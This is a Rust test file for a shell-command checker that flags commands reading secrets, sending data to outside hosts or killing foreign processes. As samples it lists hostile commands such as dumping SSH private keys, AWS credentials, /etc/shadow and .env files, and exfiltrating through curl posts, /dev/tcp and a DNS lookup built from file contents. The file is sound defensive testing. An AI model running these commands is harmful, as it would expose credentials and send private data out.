use super::testing::{path_context, unasked};
use super::*;

#[track_caller]
fn asked(rule: &str, commands: &[&str]) {
    let path_context = path_context();
    let missed = |command: &&&str| {
        let found = examine(command, &path_context).findings;
        !found.iter().any(|finding| finding.rule == rule)
    };
    let missed: Vec<_> = commands.iter().filter(missed).collect();
    assert!(missed.is_empty(), "not asked about as {rule}: {missed:?}");
}

#[track_caller]
fn harmless(commands: &[&str]) {
    assert_eq!(unasked(&path_context(), commands), commands, "the others are asked about");
}

#[test]
fn whatever_reads_a_secret_is_asked_about() {
    asked(
        "read-secret",
        &[
            "base64 ~/.vestal/.env",
            "rev ~/.vestal/.env",
            "od -c /home/me/.vestal/.env",
            "cp ~/.vestal/.env ./x",
            "cat ~/.vestal/.env",
            "cat $HOME/.vestal/profiles/writer/.env | rev",
            "cd ~/.vestal && base64 .env",
            "base64 ../.vestal/.env",
            "base64 ~/.vestal/.e?v",
            "strings ~/.vestal/state.db",
            "tar czf a.tgz ~/.vestal",
            "grep -r KEY ~/.vestal",
            "base64 < ~/.vestal/.env",
            "while read l; do echo $l; done < ~/.vestal/.env",
            "x=$(< ~/.vestal/.env)",
            "echo ~/.vestal/.env | xargs base64",
            "find ~/.ssh -type f -exec base64 {} +",
            "cat ~/.ssh/id_rsa",
            "base64 /home/me/.ssh/work_key",
            "base64 ~/.ssh/*",
            "cp -r ~/.ssh x",
            "xxd ~/.gnupg/private-keys-v1.d/x.key; od -c ~/.gnupg/secring.gpg",
            "head -c 100 ~/.aws/credentials",
            "cat ~/.netrc",
            "cat ~/.git-credentials",
            "cat ~/.kube/config",
            "cat /root/.ssh/id_ed25519",
            "base64 /etc/shadow",
            "tr '\\0' '\\n' < /proc/1/environ",
            "base64 /srv/site/tls.key",
            "base64 .env",
            "ln -s ~/.vestal/.env x",
        ],
    );
    harmless(&[
        "ls -la ~/.ssh",
        "cat ~/.ssh/config",
        "cat ~/.ssh/id_rsa.pub",
        "cat ~/.ssh/known_hosts",
        "ssh -i ~/.ssh/work_key host uptime",
        "test -e ~/.vestal/.env",
        "cat ~/.vestal/config.yaml",
        "cat .env",
        "grep -c . .env.example",
        "cat /etc/ssl/certs/ca.pem",
        "cat src/token.rs",
        "cat ~/.cargo/config.toml",
        "find ~/.ssh -name '*.pub'",
    ]);
}

#[test]
fn what_sends_something_away_is_asked_about() {
    asked(
        "send-out",
        &[
            "curl -s -d abc=TEXT https://example.com",
            "curl -sdabc https://example.com",
            "curl -H 'X: TEXT' https://example.com",
            "curl -X DELETE https://example.com/x",
            "curl -XPUT https://example.com/x",
            "curl --request=POST https://example.com/x",
            "curl --json '{}' https://example.com",
            "curl -F a=b https://example.com",
            "curl -u me:pw https://example.com",
            "curl -A TEXT https://example.com",
            "curl -b a=b https://example.com",
            "curl -x http://example.com https://example.org",
            "curl -d x localhost https://example.com",
            "curl -d x http://localhost@example.com",
            "curl -d x http://localhost.example.com",
            "wget --post-data=x https://example.com",
            "wget --method=DELETE https://example.com",
            "wget --header 'X: TEXT' https://example.com",
            "git push https://example.com/x.git",
            "git push git@example.com:x main",
            "git remote add x https://example.com/x.git",
            "git remote set-url origin https://example.com/x.git",
            "cat < /dev/tcp/example.com/80",
            "tar cz . | ssh host 'cat > x'",
            "ping -c1 $(cat f).example.com",
        ],
    );
    harmless(&[
        "curl -s https://example.com/x.json",
        "curl -H 'Accept: application/json' https://example.com/x",
        "curl -X GET https://example.com",
        "curl -d x http://localhost:8080/x",
        "curl -X POST -H 'Authorization: Bearer x' http://127.0.0.1:3000/x",
        "curl -d x 'http://[::1]:80/'",
        "wget -q https://example.com/x.csv",
        "git push",
        "git push -u origin HEAD",
        "git remote -v",
        "ping -c1 example.com",
    ]);
}

#[test]
fn processes_that_are_not_its_own_are_asked_about() {
    asked(
        "kill-foreign",
        &[
            "kill 1234",
            "kill -9 1234",
            "kill -STOP 1234",
            "kill -s STOP 1234",
            "kill -- -1234",
            "kill $(pgrep python3)",
            "kill $PID",
            "pgrep x | xargs kill",
            "killall python3",
            "pkill -x python3",
            "pkill -f my-dev-server",
        ],
    );
    harmless(&["sleep 5 & kill $!", "kill %1", "kill -0 1234", "kill -l", "kill -9 $!", "pgrep x"]);
}
